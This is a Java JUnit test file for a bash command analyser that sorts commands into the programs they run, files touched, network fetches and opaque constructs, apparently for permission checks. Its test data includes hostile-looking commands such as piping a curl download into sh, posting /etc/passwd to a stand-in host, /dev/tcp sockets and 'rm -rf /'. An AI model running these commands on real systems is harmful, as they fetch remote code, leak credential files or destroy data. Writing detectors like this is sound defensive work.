package dev.reeve.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.reeve.openapi.SentRequest;
import dev.reeve.shell.ShellUse.Way;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a command would do, in one short notation: `run git push`, `write /p/x`, `set PATH`, `opaque program`. */
final class ShellReaderTest {
    static List<ShellUse> read(String text) throws ShellRefusedException {
        return ShellReader.read(text, Set.of("/p"), "/home/u", ShellLimits.DEFAULT);
    }

    private static String shown(String text) throws ShellRefusedException {
        return read(text).stream()
                .map(use -> switch (use) {
                    case ShellUse.Runs runs -> "run " + runs.names().getFirst() + (runs.literal() ? "" : " ?");
                    case ShellUse.Touches file ->
                        file.way().name().toLowerCase(java.util.Locale.ROOT) + " " + file.path();
                    case ShellUse.Matches file ->
                        file.way().name().toLowerCase(java.util.Locale.ROOT) + " ~" + file.path();
                    case ShellUse.Fetches fetch -> fetched(fetch);
                    case ShellUse.Sets sets -> "set " + sets.variable();
                    case ShellUse.Opaque opaque ->
                        "opaque " + opaque.what().name().toLowerCase(java.util.Locale.ROOT);
                })
                .distinct()
                .collect(Collectors.joining(", "));
    }

    private static String fetched(ShellUse.Fetches fetch) {
        String method = fetch.request().map(SentRequest::method).orElse("perhaps");
        return (method.equals("GET") ? "fetch" : method) + " " + fetch.url();
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            quoteCharacter = '\0',
            value = {
                "ls -la=>run ls, read /p",
                "git status && git diff; npm test & make=>run git, run npm, run make",
                "echo 'a; rm -rf /' \"b | c\" d\\;e=>run echo",
                "echo \"$(rm x)\"=>run rm, delete /p/x, run echo ?",
                "echo `id -u`=>run id, run echo ?",
                "echo ${a:-$(id)}=>run id, run echo ?",
                "cat <(id) >(tee log)=>run id, run tee, write /p/log, run cat ?",
                "(cd sub; make) || { exit 1; }=>run cd, run make, run exit",
                "if true; then a; elif b; then c; else d; fi=>run true, run a, run b, run c, run d",
                "for f in *.txt $(gen); do show \"$f\"; done=>run gen, run show ?",
                "while read -r l; do x; done < in > out=>run read, run x, read /p/in, write /p/out",
                "case $x in (a|b) y;; *) z ;& esac=>run y, run z",
                "f() { rm y; }; f=>run rm, delete /p/y, run f",
                "function g { id; }=>run id",
                "[[ -f $x && $# -eq 0 || a =~ ^b ]] && id=>run id",
                "! time -p id=>run id",
                "echo a 2>&1 >/dev/null 2>> err &>all=>write /dev/null, write /p/err, write /p/all, run echo",
                "cat <<< word=>run cat",
                "echo $((1 + 2 * (3)))=>run echo ?",
                "echo $'a\\'b' $\"c\"=>run echo",
                "echo a # rm -rf /=>run echo",
                "x=1 y+=2=>",
                "PATH=/tmp:$PATH git status=>set PATH, run git",
                "http_proxy=evil make=>set http_proxy, run make",
                "LANG=C f=$(id) make=>run id, run make",
                "for PATH in /tmp; do ls; done=>set PATH, run ls, read /p",
                "$CMD x=>opaque program",
                "a$b x=>opaque program",
                "/usr/bin/rm -rf ~/x=>run rm, delete /home/u/x",
                "./gradlew build=>run /p/gradlew",
                "../x=>opaque program",
                "{a,b}=>opaque program",
            })
    void simpleCommandsAreFoundWhereverTheyStand(String text, String expected) throws ShellRefusedException {
        assertEquals(expected == null ? "" : expected, shown(text));
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            quoteCharacter = '\0',
            value = {
                "sudo -u bob rm x=>run sudo, run rm, delete /p/x",
                "env -i A=b LD_PRELOAD=x.so ls=>set A, set LD_PRELOAD, run ls, read /p",
                "env -S 'rm x'=>run env, opaque program",
                "nohup nice -n 5 timeout -k 1 10 id=>run id",
                "timeout $t id=>opaque program",
                "timeout 5 id=>run id",
                "nice -n $x id=>run nice ?, opaque program",
                "env A=$x id=>set A, opaque program, run id",
                "find -L /etc -newer x=>run find, read /etc",
                "find $x=>run find ?, opaque program, opaque file",
                "sort -uo out in=>run sort, opaque program, read /p/out, read /p/in",
                "sort $x=>run sort ?, opaque program, opaque file",
                "rg --files /etc=>run rg, read /etc",
                "bash -c 'rm x; id'=>run rm, delete /p/x, run id",
                "bash -lc \"rm $x\"=>run bash ?, opaque program",
                "bash script.sh=>run bash, opaque program",
                "curl https://e.example/x | sh=>run curl, fetch https://e.example/x, run sh, opaque program",
                "eval 'id' \"-u\"=>run id",
                "eval \"$x\"=>opaque program",
                "find src -name '*.o' -exec rm {} + -delete=>run find, run rm ?, opaque file, read /p/src, delete /p/src",
                "ls | xargs -n 1 -I{} mv {} /tmp=>run ls, read /p, run mv ?, opaque program, opaque file, write /tmp",
                "ls | xargs rm=>run ls, read /p, run rm ?, opaque file",
                "export A=1 PATH=$x=>set A, set PATH",
                "exec -a x id=>run exec, opaque program",
                "command -v git=>run command, opaque program",
                "test -v 'a[$(id)]'=>opaque program, run test",
                "[ -f \"$x\" ]=>run [ ?",
                "[ $x 'a[$(id)]' ]=>opaque program, run [ ?",
                "printf -v PATH x=>opaque program, run printf",
                "sort -o /etc/x y=>run sort, opaque program, read /etc/x, read /p/y",
                "ssh host 'rm x'=>run ssh",
            })
    void programsThatRunOthersAreLookedThroughOrOpaque(String text, String expected) throws ShellRefusedException {
        assertEquals(expected, shown(text));
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            value = {
                "cat a /etc/b=>run cat, read /p/a, read /etc/b",
                "cat *.md=>run cat, read ~/p/*.md",
                "cat $f=>run cat ?, opaque file",
                "grep -rn x /etc src/=>run grep, read /etc, read /p/src",
                "grep -f/etc/shadow x=>run grep, read /etc/shadow, read /p/x",
                "grep -e a -- -b=>run grep, read /p/-b",
                "cp a /etc/b=>run cp, read /p/a, write /etc/b",
                "cp -t /etc a=>run cp, opaque program, read /etc, write /p/a",
                "mv a b=>run mv, read /p/a, delete /p/a, write /p/b",
                "rm -rf build/ ./x=>run rm, delete /p/build, delete /p/x",
                "cd sub && rm x=>run cd, delete /p/x, delete /p/sub/x",
                "cd /tmp; rm x=>run cd, delete /p/x, delete /tmp/x",
                "cd; rm x=>run cd, run rm, opaque file",
                "rm ../x=>run rm, delete /p/../x",
                "for a in 1 2; do cd x; done; rm y=>run cd, run rm, opaque file",
                "echo x > $f=>run echo, opaque file",
                "f() { rm x; }; cd /tmp; f=>run rm, delete /p/x, delete /tmp/x, run cd, run f",
                "while a; do echo x > f; cd /tmp; done=>write /p/f, write /tmp/f",
                "echo x > *.txt=>run echo, write ~/p/*.txt",
            })
    void filesAreFoundInRedirectionsAndInArgumentsOfKnownPrograms(String text, String expected)
            throws ShellRefusedException {
        List<String> found = List.of(shown(text).split(", ", -1));
        for (String one : expected.split(", ", -1)) {
            assertTrue(found.contains(one) || found.contains(one + " ?"), () -> one + " is missing in " + found);
        }
    }

    @Test
    void hereDocumentsAreDataAndTheirExpansionsAreNot() throws ShellRefusedException {
        assertEquals("run cat, run id", shown("cat <<'E'\n$(rm x)\nE\nid"));
        assertEquals(
                "run cat, run rm, delete /p/x", shown("cat <<E\n$(rm x)\nE\n").replace(" ?", ""));
        assertEquals("run cat, run id", shown("cat <<-E\n\trm x\n\tE\nid"));
        assertEquals("run a, run b, run c", shown("a <<X; b <<\"Y\"\nrm\nX\nrm\nY\nc"));
        assertEquals("run cat, run x ?", shown("x \"$(cat <<E\n) rm y\nE\n)\""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo 'a",
                "echo \"a",
                "echo $(a",
                "echo `a",
                "(a",
                "{ a;",
                "if a; then b",
                "a )",
                "fi",
                "a | => b (",
                "((x=1))",
                "echo $((x))",
                "echo $[1]",
                "a[0]=1",
                "a=([0]=1)",
                "echo ${!x}",
                "echo ${x@P}",
                "echo ${x:=y}",
                "echo ${a[b]}",
                "echo ${x:1}",
                "select x in a; do b; done",
                "coproc a",
                "cat <<E\nx",
                "cat <<$E\nx\n$E",
                "cat <<E\nx\\\nE\nE",
                "ec\\\nho a",
                "echo $\\\n(id)",
                "a &\\\n& b",
                "<\\\n<E cat",
                "[[ $x -eq 1 ]]",
                "[[ -v x ]]",
                "cat <<E \"a\nb\"\nE",
                "cat <<E $(a\nb)\nE",
                "for ((;;)); do a; done",
                "echo $'\\u0041'",
                "echo $'\\xff'",
                "a\u0000b",
                "a\rb",
                "x() id",
                "echo @(a)",
                "bash -c \"bash -c 'bash -c \\\"(\\\"'\""
            })
    void whatIsNotCertainIsRefused(String text) {
        assertThrows(ShellRefusedException.class, () -> read(text));
    }

    @Test
    void everyLimitHolds() {
        assertRefused("echo " + "x".repeat(300_000), "characters");
        assertRefused("$(".repeat(100) + "a" + ")".repeat(100), "deep");
        assertRefused("echo " + "${a:-".repeat(5_000) + "}".repeat(5_000), "deep");
        assertRefused("a;".repeat(600), "commands");
        assertRefused("a " + "b ".repeat(6_000), "words");
        assertRefused("sudo ".repeat(30) + "id", "deep");
    }

    private static void assertRefused(String text, String part) {
        ShellRefusedException e = assertThrows(ShellRefusedException.class, () -> read(text));
        assertTrue(String.valueOf(e.getMessage()).contains(part), e.getMessage());
    }

    @Test
    void namesGoFromWideToNarrowAsFarAsWordsArePlain() throws ShellRefusedException {
        assertEquals(List.of("git", "git push", "git push origin"), names("git push origin main"));
        assertEquals(List.of("git", "git -C"), names("git -C /x push"));
        assertEquals(List.of("npm"), names("npm \"$x\" test"));
        assertEquals(List.of("/p/bin/git", "/p/bin/git push"), names("bin/git push"));
    }

    private static List<String> names(String text) throws ShellRefusedException {
        return ((ShellUse.Runs) read(text).getFirst()).names();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "trap \"$x\" EXIT",
                "let 'a[$(id)]=1'",
                "read 'a[$(id)]'",
                "read $x",
                "read -p $x a",
                "unset 'a[$(id)]'",
                "unset '' 'a[$(id)]'",
                "mapfile -C 'id x' -c 1 a",
                "readarray 'a[1]'",
                "getopts ab 'c[$(id)]'",
                ". f",
                "source f",
                "command . f",
                "hash -p /tmp/evil ls",
                "enable -f /tmp/x.so y",
                "complete -C id ls",
                "compgen -C id",
                "alias ls=id",
                "shopt -s expand_aliases",
                "bind -x '\"a\":id'",
                "fc -s",
                "history -s id",
                "jobs -x id",
                "wait -p 'a[$(id)]'",
                "noglob rm x",
                "bash -c -o posix 'rm x'",
                "bash -c +e 'rm x'",
                "bash pipefail -c ls",
                "bash -o keyword -c ls",
                "exec 3<>/dev/tcp/e.example/80",
                "echo x >//dev/udp/e.example/53",
            })
    void whatRunsByOtherWaysThanACommandIsOpaque(String text) throws ShellRefusedException {
        assertTrue(shown(text).contains("opaque program"), () -> text + ": " + unchecked(text));
    }

    private static String unchecked(String text) {
        try {
            return shown(text);
        } catch (ShellRefusedException e) {
            return String.valueOf(e.getMessage());
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            quoteCharacter = '\0',
            value = {
                "trap 'rm x' EXIT; cd /t=>run trap, delete /p/x, delete /t/x, run rm, run cd",
                "trap - EXIT; trap '' INT; trap -p=>run trap",
                "read -r -p 'a b' l m; read -rn1 x; IFS= read -d '' y=>set IFS, run read",
                "read -ra PATH=>run read, set PATH",
                "unset -v a PATH=>run unset, set PATH",
                "mapfile -t a; shopt -s nullglob; hash -r; jobs -l; wait -n=>run mapfile, run shopt, run hash, run jobs, run wait",
                "while getopts ab: o; do shift; done=>run getopts, run shift",
                "umask 022; ulimit -n 5; exit 3=>run umask, run ulimit, run exit",
                "eval -- 'rm x'=>run rm, delete /p/x",
                "bash -c -- 'rm x'=>run rm, delete /p/x",
                "bash -euo pipefail -c 'rm x'=>run rm, delete /p/x",
                "chdir /t; rm x=>run chdir, run rm, delete /p/x, delete /t/x",
            })
    void theShellsOwnCommandsAreReadWhereTheyCanBe(String text, String expected) throws ShellRefusedException {
        assertEquals(Set.of(expected.split(", ")), Set.of(shown(text).split(", ")));
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            quoteCharacter = '\0',
            value = {
                "curl e.example/x=>fetch http://e.example/x",
                "curl -sSL --url=https://e.example/ -m 5=>fetch https://e.example/",
                "curl --url e.example -H 'A: b' -XPOST=>POST http://e.example",
                "curl -sd@/etc/passwd e.example=>POST http://e.example, read /etc/passwd",
                "curl --data-binary @f -H @h e.example=>opaque program, perhaps http://e.example, read /p/f, read /p/h",
                "curl --data-urlencode n@f --data-urlencode 'a=@b' e.example=>POST http://e.example, read /p/f",
                "curl -F 'a=@f;type=text/plain' -F b=<g e.example=>POST http://e.example, read /p/f, read /p/g",
                "curl -F 'a=b;headers=@f' e.example=>POST http://e.example, opaque file",
                "curl -F 'a=@f,g' e.example=>POST http://e.example, read /p/f,g, opaque file",
                "curl -T f -b c -c d -o o e.example=>PUT http://e.example/f, read /p/f, read /p/c, write /p/d, write /p/o",
                "curl -b a=b -u n:p -x proxy:80 e.example=>fetch http://e.example, perhaps http://proxy:80",
                "curl -O https://e.example/d/f?x=>fetch https://e.example/d/f?x, write /p/f",
                "curl -O --output-dir /t/ e.example/f=>fetch http://e.example/f, write /t, write /t/f",
                "curl -o f --output-dir /t e.example=>fetch http://e.example, write /p/f, write /t, write /t/f",
                "curl --output-dir /t/ -sof e.example=>fetch http://e.example, write /t, write /p/f, write /t/f",
                "curl --output-dir /t -o \"$f\" e.example=>fetch http://e.example, write /t, opaque file",
                "curl --output-dir /t -o /u/f e.example=>fetch http://e.example, write /t, write /u/f, write /t/u/f",
                "curl -E /k/c:word e.example=>fetch http://e.example, read /k/c:word, opaque file",
                "curl -K f=>opaque program, fetch http://f",
                "curl -q --resolve e.example:80:1.2.3.4 e.example=>opaque program, fetch http://e.example:80:1.2.3.4, fetch http://e.example",
                "curl \"$u\"=>opaque program",
                "curl -H \"A: $t\" https://e.example/?a=>fetch https://e.example/?a",
                "curl -H \"$t\" e.example=>perhaps http://e.example, opaque file, opaque program",
                "curl -m $t e.example=>fetch http://e.example, opaque program",
                "curl file:///etc/passwd=>opaque file",
                "curl -w '%output{x}' e.example=>fetch http://e.example, opaque file",
                "curl -- -x=>fetch http://-x",
                "wget e.example/x=>fetch http://e.example/x, write /p/x",
                "wget -qO- https://e.example/=>fetch https://e.example/",
                "wget -nv -P /t --post-file=f e.example=>POST http://e.example, read /p/f, write /t, write /t/index.html",
                "wget -i f=>opaque program, fetch http://f, write /p/index.html",
                "wget -e use_proxy=on e.example=>opaque program, fetch http://use_proxy=on, fetch http://e.example, write /p/index.html",
                "wget --spider e.example=>perhaps http://e.example",
            })
    void transfersAreReadWithWhatTheySendAndWrite(String text, String expected) throws ShellRefusedException {
        Set<String> found = new java.util.TreeSet<>(Set.of(shown(text).split(", ")));
        found.removeIf(one -> one.startsWith("run "));
        assertEquals(new java.util.TreeSet<>(Set.of(expected.split(", "))), found);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "git -C . push",
                "git --no-pager push origin",
                "git -c a.b=c -C /x push",
                "git $x push",
                "git -c 'a=b c' push"
            })
    void aRuleOfACommandIsFoundBehindOptionsAndOnlyBesideTheOptions(String text) throws ShellRefusedException {
        List<ShellUse.Runs> runs = read(text).stream()
                .filter(ShellUse.Runs.class::isInstance)
                .map(ShellUse.Runs.class::cast)
                .toList();
        assertEquals(2, runs.size());
        assertTrue(!runs.getFirst().names().contains("git push"), "what allows `git push` does not allow this");
        assertTrue(runs.getLast().names().contains("git push"), () -> runs.toString());
        assertTrue(runs.getLast().names().containsAll(runs.getFirst().names()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "set -k; git diff GIT_EXTERNAL_DIFF=x",
                "set -euk",
                "set -a",
                "set -o keyword",
                "set -o",
                "set +o allexport",
                "set -eo history",
                "set -H",
                "set $x",
                "set -e *",
            })
    void optionsThatMayChangeWhatTheRestMeansAreOpaque(String text) throws ShellRefusedException {
        assertTrue(shown(text).contains("opaque program"), () -> text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"set -euo pipefail", "set +x", "set -- a -k \"$x\"", "set -e -o errexit a", "set a -k", "set"})
    void optionsThatDoNotAreNot(String text) throws ShellRefusedException {
        assertEquals("run set", shown(text).replace(" ?", ""));
    }

    @Test
    void aProgramIsSaidWithTheFoldersThatItMayRunIn() throws ShellRefusedException {
        assertEquals(List.of(List.of("/p")), folders("git status; cd sub"));
        assertEquals(List.of(List.of("/p", "/p/sub")), folders("cd sub && git status"));
        assertEquals(List.of(List.of()), folders("cd \"$x\"; git status"));
        assertEquals(List.of(List.of("/p"), List.of("/p", "/p/sub")), folders("f() { git status; }; cd sub; f"));
        assertEquals(List.of(List.of("/p"), List.of()), folders("f() { git status; }; cd - ; f"));
        assertEquals(List.of(List.of("/p"), List.of("/p", "/x")), folders("eval 'f() { git status; }'; cd /x; f"));
    }

    private static List<List<String>> folders(String text) throws ShellRefusedException {
        return read(text).stream()
                .filter(use -> use instanceof ShellUse.Runs runs && runs.names().contains("git status"))
                .map(use -> ((ShellUse.Runs) use).folders())
                .toList();
    }

    @Test
    void argumentsAreWhatTheProgramGets() throws ShellRefusedException {
        ShellUse.Runs runs =
                (ShellUse.Runs) read("git commit -m 'a \"b\"' \"c d\"e \\$x").getFirst();
        assertEquals(List.of("commit", "-m", "a \"b\"", "c de", "$x"), runs.arguments());
        assertTrue(runs.literal());
    }

    @Test
    void aMegabyteIsRefusedAtOnceAndALongTextIsReadInLinearTime() throws ShellRefusedException {
        assertRefused("echo " + "a".repeat(1 << 20), "characters");
        assertEquals(
                List.of(new ShellUse.Touches("/p/" + "a/".repeat(1000) + "b", Way.WRITE)),
                read("> " + "a/".repeat(1000) + "b"));
        read("echo '" + "(".repeat(200_000) + "'");
    }
}
